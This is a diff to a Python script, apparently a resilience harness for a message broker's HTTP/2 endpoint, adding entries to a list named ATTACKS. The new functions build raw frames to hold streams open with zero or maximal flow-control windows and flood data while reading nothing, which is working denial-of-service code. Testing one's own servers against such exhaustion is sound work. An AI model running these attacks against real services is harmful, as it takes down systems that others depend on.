@@ -20,6 +20,7 @@ DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION
 UNKNOWN = 0xFA
 END_STREAM, END_HEADERS = 1, 4
 INITIAL_WINDOW_SIZE = 4
+WINDOW_FIRST, WINDOW_MAX = 65_535, 2**31 - 1
 # Descriptors that stay for everything else.
 SPARE_FILES = 200
 
@@ -109,17 +110,36 @@ def idle(address, connections, topic):
     return _many(address, connections, frame(SETTINGS))
 
 
+def _open_streams(method, topic, count):
+    request = frame(DATA, END_STREAM, 0, consume_request(topic))[9:]
+    streams = range(1, 2 * count, 2)
+    return b"".join(headers(n, method) + frame(DATA, END_STREAM, n, request) for n in streams)
+
+
+def _consumers(address, connections, topic, method, opening):
+    """A thousand streams on one connection, and some on each of the others."""
+    held = _many(address, 1, opening + _open_streams(method, topic, 1000))
+    return held + _many(address, connections - 1, opening + _open_streams(method, topic, 8))
+
+
 def answers_unread(address, connections, topic):
-    """Consumers whose window is 0: a thousand streams on one connection, and some on each of the others."""
-    closed = setting(INITIAL_WINDOW_SIZE, 0)
+    """Consumers whose window is 0."""
+    return _consumers(address, connections, topic, CONSUME_STREAM, setting(INITIAL_WINDOW_SIZE, 0))
 
-    def open_streams(count):
-        request = frame(DATA, END_STREAM, 0, consume_request(topic))[9:]
-        streams = range(1, 2 * count, 2)
-        return b"".join(headers(n, CONSUME_STREAM) + frame(DATA, END_STREAM, n, request) for n in streams)
 
-    held = _many(address, 1, closed + open_streams(1000))
-    return held + _many(address, connections - 1, closed + open_streams(8))
+def single_answers_unread(address, connections, topic):
+    """The same with calls that have one answer each."""
+    return _consumers(address, connections, topic, CONSUME, setting(INITIAL_WINDOW_SIZE, 0))
+
+
+def sockets_unread(address, connections, topic):
+    """Consumers whose windows are as wide as can be, and who read nothing from their sockets."""
+    return _consumers(address, connections, topic, CONSUME_STREAM, _wide())
+
+
+def _wide():
+    update = frame(WINDOW_UPDATE, payload=struct.pack(">I", WINDOW_MAX - WINDOW_FIRST))
+    return setting(INITIAL_WINDOW_SIZE, WINDOW_MAX) + update
 
 
 def acks_unread(address, connections, topic):
@@ -127,6 +147,18 @@ def acks_unread(address, connections, topic):
     request = frame(DATA, 0, 1, produce_request(topic, b"x" * 100))
     opening = setting(INITIAL_WINDOW_SIZE, 0) + headers(1, PRODUCE_STREAM)
     return _many(address, connections, opening, lambda connection: send(connection, request * 2000, 0.2))
+
+
+def acks_in_sockets(address, connections, topic):
+    """The same on eight streams of each, with windows as wide as can be and sockets that nobody reads."""
+    opening = _wide() + b"".join(headers(n, PRODUCE_STREAM) for n in range(1, 17, 2))
+    request = produce_request(topic, b"x")
+    part = b"".join(frame(DATA, 0, n, request * 200) for n in range(1, 17, 2))
+    held = _many(address, connections, opening, lambda connection: send(connection, part, 0.05))
+    for _ in range(10):
+        for connection in held:
+            send(connection, part, 0.02)
+    return held
 
 
 def announced(address, connections, topic):
@@ -203,7 +235,10 @@ def continuations(address, connections, topic):
 ATTACKS = [
     idle,
     answers_unread,
+    single_answers_unread,
+    sockets_unread,
     acks_unread,
+    acks_in_sockets,
     announced,
     tiny_frames,
     large_headers,
